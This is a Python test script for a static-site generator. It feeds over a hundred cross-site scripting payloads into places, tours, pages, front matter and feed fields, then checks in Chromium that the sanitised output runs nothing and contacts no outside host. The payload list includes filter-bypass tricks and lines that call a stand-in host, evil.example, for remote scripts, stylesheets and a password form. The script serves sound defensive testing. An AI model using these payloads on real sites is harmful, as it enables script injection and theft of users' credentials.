"""Scripts in texts: what people write is built with sanitised HTML, and nothing of it runs, loads, sends or covers.

    python3 Tests/Attack/isolate_texts.py [PROGRAM_FOLDER]      default .build/release

Each payload stands in a place, a tour and a page, as a block, within a line, in a link and in a directive, and in the values of
the front matter. The pages are judged twice: an allow-list over what Chromium parses, and Chromium itself, which shows them
without any policy and must not run anything.
"""

import os
import pathlib
import re
import subprocess
import sys
import tempfile

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
PYTHON = ROOT / ".tools/browser/bin/python"
if PYTHON.exists() and pathlib.Path(sys.prefix) != PYTHON.parent.parent:
    os.execv(PYTHON, [PYTHON, *sys.argv])
sys.path.insert(0, str(ROOT / "Tests/Browser"))

from browser import chromium  # noqa: E402

SITE = """title: Texts of strangers
url: https://example.net/guide/
summary: Each place is an attack.
language: en
timezone: Europe/Helsinki
currency: EUR
html: trusted
print: { engine: none }
kinds:
  sight: { is: landmark, label: Sight }
"""
JS = "alert(1)"
# Each is tried as it stands; the words are ours, the ideas are of public collections of such tricks.
PAYLOADS = [
    f"<script>{JS}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script/x>{JS}</script>", f"<script\n>{JS}</script >", f"<img src=x onerror={JS}>", f"<img/src=x/onerror={JS}>",
    f"<img src=x OnErRoR='{JS}'>", f"<img src=\"x\" \x0bonerror={JS}>", f"<img \"\"\"><script>{JS}</script>\">",
    f"<img src=x:x srcset='x 1x, javascript:{JS} 2x' onerror={JS}>", f"<image href=x onerror={JS}>",
    f"<svg onload={JS}>", f"<svg><script>{JS}</script></svg>", f"<svg><a xlink:href='javascript:{JS}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,&lt;svg id=x onload={JS}&gt;#x'></use></svg>",
    f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>", f"<svg><set attributeName=href to=javascript:{JS}></svg>",
    f"<svg></p><style><a id=\"</style><img src=1 onerror={JS}>\">", f"<svg><desc><img src=x onerror={JS}></desc></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={JS}&gt;\">",
    f"<math><mi><style><img src=x onerror={JS}></style></mi></math>", f"<math href=javascript:{JS}>x</math>",
    f"<math><annotation-xml encoding=text/html><script>{JS}</script></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f"<noscript><p title=\"</noscript><img src=x onerror={JS}>\"></noscript>",
    f"<noembed><p title=\"</noembed><img src=x onerror={JS}>\"></noembed>", f"<xmp><p title=\"</xmp><img src=x onerror={JS}>\"></xmp>",
    f"<textarea><p title=\"</textarea><img src=x onerror={JS}>\">", f"<title><a title=\"</title><img src=x onerror={JS}>\">",
    f"<template><img src=x onerror={JS}></template>", f"<template><template></template><script>{JS}</script></template>",
    f"<select><template><img src=x onerror={JS}></template></select>", f"<select><iframe></select><img src=x onerror={JS}>",
    f"<style><img src=x onerror={JS}></style>", "<style>@import '//evil.example/x.css';</style>", "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:url(javascript:alert(1))'>cover</div>",
    "<p style=\"x:expression(alert(1))\">a</p>", f"<a href='javascript:{JS}'>a</a>", f"<a href=' \t javascript:{JS}'>a</a>",
    f"<a href='java&#10;script:{JS}'>a</a>", f"<a href='java&Tab;script&colon;{JS}'>a</a>", f"<a href='&#x6A;avascript:{JS}'>a</a>",
    f"<a href='&#1;javascript:{JS}'>a</a>", f"<a href='JaVaScRiPt:{JS}'>a</a>", f"<a href='vbscript:msgbox(1)'>a</a>",
    f"<a href='data:text/html,<script>{JS}</script>'>a</a>", f"<a href='blob:https://example.net/x'>a</a>",
    f"<a href='view-source:javascript:{JS}'>a</a>", f"<a href='filesystem:https://example.net/x'>a</a>", "<a href='file:///etc/passwd'>a</a>",
    f"<a ping='//evil.example/p' target=_top href=x>a</a>", f"<iframe src=javascript:{JS}></iframe>",
    f"<iframe srcdoc='<script>{JS}</script>'></iframe>", f"<frameset onload={JS}><frame src=javascript:{JS}></frameset>",
    f"<object data=javascript:{JS}></object>", f"<object data='data:text/html,x'></object>", f"<embed src=javascript:{JS}>",
    f"<applet code=x></applet>", f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">", "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>", "<link rel=import href='//evil.example/x'>", "<link rel=manifest href=x>",
    f"<form action='javascript:{JS}'><button>x</button></form>", "<form id=x action=//evil.example><input name=password>",
    f"<button form=x formaction=javascript:{JS}>x</button>", f"<input autofocus onfocus={JS}>", f"<input type=image src=x onerror={JS}>",
    f"<isindex type=image src=x onerror={JS}>", f"<body onload={JS}>", f"<html onclick={JS}>", f"<head><script>{JS}</script></head>",
    f"<video src=x onerror={JS}></video>", f"<video><source onerror={JS}></video>", f"<audio src=javascript:{JS} onerror={JS} autoplay>",
    f"<video poster=javascript:{JS}></video>", f"<details open ontoggle={JS}>x</details>", f"<marquee onstart={JS}>x</marquee>",
    f"<p onmouseover={JS} onclick={JS} onfocusin={JS} tabindex=0>a</p>", f"<p onanimationstart={JS} class=skip>a</p>",
    f"<x onclick={JS} contenteditable>a</x>", f"<keygen onfocus={JS}>", "<img name=body><img name=querySelector><a id=location>b</a>",
    "<a id=config><a id=config name=url href='//evil.example'>b</a></a>", f"<table background=javascript:{JS}><td>x</table>",
    f"<td background=javascript:{JS}>", f"<!--><img src=x onerror={JS}>-->", f"<!-- --!><img src=x onerror={JS}>",
    f"<![CDATA[<img src=x onerror={JS}>]]>", f"<?xml version='1.0'?><img src=x onerror={JS}>", f"<!DOCTYPE x [<!ENTITY y '<img src=x onerror={JS}>'>]>",
    f"<//img src=x onerror={JS}>", f"<a title='x' href=x\x00 onclick={JS}>a</a>", f"<b <script>{JS}</script>0", f"<<script>{JS}//<</script>",
    f"<plaintext><img src=x onerror={JS}>", f"<p/onclick={JS}>a", f"</p onclick={JS}>", f"<a\x0chref=javascript:{JS}>a</a>",
    f"<img alt='`><script>{JS}</script>'src=x>", f"<nobr><b><a><nobr><table><a onclick={JS}>", f"<custom-element onclick={JS}>a</custom-element>",
    f"<waymark-part n=0><img src=x onerror={JS}></waymark-part>", f"<dialog open oncancel={JS}>x</dialog>", f"<portal src=//evil.example></portal>",
    f"<slot onslotchange={JS}>", f"<p popover id=x>a</p><button popovertarget=x onclick={JS}>b</button>", "<p is=x slot=y part=z itemprop=w>a</p>",
    f"<script type=module>import 'data:text/javascript,{JS}'</script>", "<script type=speculationrules>{}</script>", "<script type=importmap>{}</script>",
]
MARKDOWN = [
    f"[a](javascript:{JS})", f"[a](<java\tscript:{JS}>)", f"[a](&#1;javascript:{JS})", f"[a](java&#10;script:{JS})", f"[a][b]\n\n[b]: JavaScript:{JS}",
    f"<javascript:{JS}>", f"![a](javascript:{JS})", f"![a](data:image/svg+xml,x)", f"[a](data:text/html,x)", f"![a](x\"onerror={JS})",
    f"[a](https://x.example/\"onclick={JS})", f"[a](https://x.example 'b\" onclick={JS}')", f"```\"onclick={JS}\nx\n```",
    f"# a <img src=x onerror={JS}>", f"| a | b |\n|---|---|\n| <img src=x onerror={JS}> | `<script>` |",
]

# Runs in a page: what is in the document that no text may bring. `own` is what a page without any attack has.
JUDGE = r"""(html) => {
  const root = new DOMParser().parseFromString(html, 'text/html');
  const bad = [];
  const schemes = /^(https?|mailto|tel|geo):/i;
  const names = new Set(['SCRIPT', 'STYLE', 'IFRAME', 'FRAME', 'OBJECT', 'EMBED', 'APPLET', 'BASE', 'META', 'LINK', 'FORM', 'TEMPLATE',
    'NOSCRIPT', 'TEXTAREA', 'SELECT', 'MATH', 'DIALOG', 'PORTAL', 'MARQUEE', 'X', 'CUSTOM-ELEMENT', 'PLAINTEXT', 'WAYMARK-PART', 'SLOT']);
  // A field of a form may have the name of what one asks an element for.
  const attributes = Object.getOwnPropertyDescriptor(Element.prototype, 'attributes').get;
  for (const one of root.querySelectorAll('*')) {
    const text = Element.prototype.closest.call(one, '[data-judged]') !== null;
    for (const { name, value } of attributes.call(one)) {
      if (/^on/i.test(name) || ['style', 'srcdoc', 'ping', 'formaction', 'background', 'popovertarget', 'is'].includes(name)) {
        if (name !== 'style' || text) bad.push(`${one.tagName} ${name}=${value}`);
      }
      if (['href', 'src', 'action', 'poster', 'data', 'xlink:href', 'srcset'].includes(name)) {
        const clean = value.replace(/[\x00-\x20]/g, '');
        if (/^[a-z][a-z0-9+.-]*:/i.test(clean) && !schemes.test(clean)) bad.push(`${one.tagName} ${name}=${value}`);
      }
      if (text && (name === 'name' || (name === 'id' && !/^H[1-6]$/.test(one.tagName)))) bad.push(`${one.tagName} ${name}=${value}`);
    }
    if (text && names.has(one.tagName.toUpperCase())) bad.push(`an element ${one.tagName}`);
  }
  for (const script of root.querySelectorAll('script')) {
    if (!script.src && !['application/ld+json', 'application/json'].includes(script.type)) bad.push(`a script ${script.outerHTML.slice(0, 80)}`);
    if (script.src && !/^(\/guide\/|(\.\.\/)*)([a-z]{2}\/)?(app|data)\/[\w./-]+\.js(\?[0-9a-f]{8})?$/.test(script.getAttribute('src'))) bad.push(`a script ${script.outerHTML.slice(0, 80)}`);
  }
  return bad;
}"""


def quoted(text):
    """A YAML text in double quotes."""
    out = []
    for sign in text:
        code = ord(sign)
        out.append(f"\\x{code:02x}" if code < 0x20 or code == 0x7F else "\\" + sign if sign in '"\\' else sign)
    return '"' + "".join(out) + '"'


def body(payload):
    """The payload in the positions that a text has."""
    line = payload.replace("\n", " ")
    return f"""Words.

{payload}

Within {line} a line, *{line}* and [w {line}](https://example.org/).

<div>
{payload}

**Between**

</div>

::: note {line.split('"')[0][:60]}
{line}
:::

- {line}
"""


def write(folder, path, text):
    file = folder / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_bytes(text.encode())


def make(folder):
    """Each payload in files of its own: a place, a tour and a page."""
    write(folder, "Content/site.yaml", SITE)
    write(folder, "Content/places/harmless.md", "---\ntitle: Harmless\nsummary: s\nkind: sight\nlocation: 60.1, 24.9\n---\n\nWords.\n")
    for number, payload in enumerate(PAYLOADS + MARKDOWN):
        # An address that leads nowhere is an error of its own.
        payload = re.sub(r"\b(src|href|data)=([\"']?)(?:x|1)(?=[\"'\s>/])", r"\1=\2/", payload)
        value = quoted(payload.replace("\n", " "))
        head = f"title: {value}\nsummary: {value}\n"
        extra = f"kind: sight\nlocation: 60.17{number % 10}, 24.9{number:03}\naddress: {value}\n"
        write(folder, f"Content/places/p{number}.md", f"---\n{head}{extra}---\n\n{body(payload)}")
        write(folder, f"Content/pages/q{number}.md", f"---\ntitle: Q{number}\n---\n\n{payload}\n")
        write(folder, f"Content/tours/t{number}.md", f"---\ntitle: T{number}\nsummary: s\nstops: [harmless]\n---\n\n{payload}\n\nAfter it.\n")


def refuse(program, folder):
    """Takes out the files with errors, which nobody could publish; how many they were."""
    count = 0
    for _ in range(5):
        done = subprocess.run([program, "check", folder], capture_output=True, text=True)
        if done.returncode == 0:
            return count
        wrong = set(re.findall(r"--> (Content/(?:places|pages|tours)/\w+\.md)", "".join(re.findall(r"^error.*?(?=^\S|\Z)", done.stdout + done.stderr, re.M | re.S))))
        for path in wrong:
            (folder / path).unlink()
        count += len(wrong)
    return count


class Checks:
    def __init__(self):
        self.failed = 0

    def say(self, name, faults):
        print(f"{'ok    ' if not faults else 'FAILED'} {name}")
        for fault in faults[:12]:
            print(f"       {fault}")
        self.failed += bool(faults)


def marked(html, path):
    """The page with its author's text marked as what is judged strictly; what its templates draw is not."""
    if path.parent.name == "offline":
        return html
    if path.parent.name.startswith("q"):
        before, _, after = html.partition("</h1>")
        return before + "</h1>" + after.replace("<div", "<div data-judged", 1)
    return html.replace('<div class="prose"', '<div data-judged class="prose"', 1)


def judge(checks, folder, pages, browser, name):
    """Parses all pages, and shows them with scripts on and no policy."""
    context = browser.new_context()
    page = context.new_page()
    ran, asked, faults = [], [], []
    page.on("dialog", lambda dialog: (ran.append(f"{page.url}: {dialog.message}"), dialog.dismiss()))

    def serve(route):
        address = route.request.url
        asked.append(address)
        if not address.startswith("http://guide.test/"):
            return route.abort()
        file = folder / address.removeprefix("http://guide.test/").split("?")[0].split("#")[0]
        if not file.is_file():
            return route.fulfill(status=404, body="none")
        if file.suffix == ".html":
            text = file.read_text(encoding="utf-8")
            policy = text.find('<meta http-equiv="Content-Security-Policy"')
            text = text[:policy] + text[text.find(">", policy) + 1:] if policy >= 0 else text
            return route.fulfill(body=text, content_type="text/html; charset=utf-8")
        kind = {".js": "text/javascript", ".css": "text/css", ".json": "application/json", ".svg": "image/svg+xml"}.get(file.suffix, "application/octet-stream")
        return route.fulfill(body=file.read_bytes(), content_type=kind)

    context.route("**/*", serve)
    page.goto("http://guide.test/404.html")
    for path in pages:
        html = path.read_text(encoding="utf-8")
        faults += [f"{path.relative_to(folder)}: {one}" for one in page.evaluate(JUDGE, marked(html, path))]
    checks.say(f"{name}: an allow-list over the trees of {len(pages)} pages", faults)
    # Those with texts, and one of each other kind.
    texts = [one for one in pages if re.fullmatch(r"[pqt]\d+", one.parent.name)]
    for path in texts + [folder / one for one in ("index.html", "places/index.html", "tours/index.html", "search/index.html") if (folder / one).exists()]:
        page.goto(f"http://guide.test/{path.relative_to(folder).as_posix()}", wait_until="load")
        # Handlers that need a person.
        page.evaluate("for (const one of document.querySelectorAll('.prose *')) { one.dispatchEvent(new Event('click')); one.dispatchEvent(new Event('mouseover')); one.dispatchEvent(new Event('focusin')); }")
    outside = sorted({one for one in asked if not one.startswith("http://guide.test/") and not one.startswith("data:")})
    checks.say(f"{name}: shown without a policy, nothing runs", ran)
    checks.say(f"{name}: nothing is asked of others", outside)
    context.close()


def feeds(checks, folder, browser):
    """Descriptions in feeds are HTML in text of XML; what readers make of them is judged as a page. All other values are plain text."""
    import xml.etree.ElementTree as tree
    context = browser.new_context()
    page = context.new_page()
    faults, count = [], 0
    for file in sorted(folder.rglob("*.xml")):
        for one in tree.parse(file).iter():
            if one.tag.rpartition("}")[2] == "description" and one.text and "<" in one.text:
                count += 1
                faults += [f"{file.relative_to(folder)}: {bad}" for bad in page.evaluate(JUDGE, f"<div data-judged>{one.text}</div>")]
    context.close()
    checks.say(f"the HTML of {count} texts in feeds", faults or ([] if count else ["there is none"]))


def addresses(checks, program, folder):
    """Values that are addresses are refused where they would run something."""
    for field in ("website: {}", "menu: {}", "rating: {{ score: 4, url: {} }}", "links: [{{ title: a, url: {} }}]",
                  "media: [{{ type: page, title: a, url: {} }}]", "email: {}", "phone: {}"):
        faults = []
        for address in (f"javascript:{JS}", f" JaVaScript:{JS}", f"java\tscript:{JS}", "data:text/html,x", f"\x01javascript:{JS}", "vbscript:x", f"https:javascript:{JS}//"):
            write(folder, "Content/site.yaml", SITE)
            write(folder, "Content/places/a.md", f"---\ntitle: A\nkind: sight\nlocation: 60.1, 24.9\nsummary: s\n{field.format(quoted(address))}\n---\n\nWords.\n")
            done = subprocess.run([program, "check", folder], capture_output=True, text=True)
            if done.returncode == 0:
                faults.append(f"{address!r} is taken")
        checks.say(f"an address that runs something is an error: {field.split(':')[0]}", faults)


def main():
    programs = pathlib.Path(sys.argv[1] if len(sys.argv) > 1 else ROOT / ".build/release").resolve()
    program, checks = programs / "waymark", Checks()
    checks.say(f"{len(PAYLOADS) + len(MARKDOWN)} payloads", [] if len(PAYLOADS) >= 60 else ["too few"])
    with tempfile.TemporaryDirectory() as name, chromium() as browser:
        folder = pathlib.Path(name)
        make(folder)
        refused = refuse(program, folder)
        left = len(list((folder / "Content").glob("*/[pqt]*.md")))
        checks.say(f"{refused} files are refused by the check, {left} are built", [] if left > 200 else ["too few are left to judge"])
        done = subprocess.run([program, "build", folder, "--no-pdf", "--sanitised-html", "--cache", folder / "cache"], capture_output=True, text=True)
        checks.say("the site is built", [] if done.returncode == 0 else (done.stdout + done.stderr).splitlines()[-30:])
        if done.returncode == 0:
            output = folder / "Output"
            pages = sorted(output.rglob("*.html"))
            judge(checks, output, pages, browser, "sanitised")
            feeds(checks, output, browser)
        with tempfile.TemporaryDirectory() as other:
            addresses(checks, program, pathlib.Path(other))
    raise SystemExit(1 if checks.failed else 0)


if __name__ == "__main__":
    main()
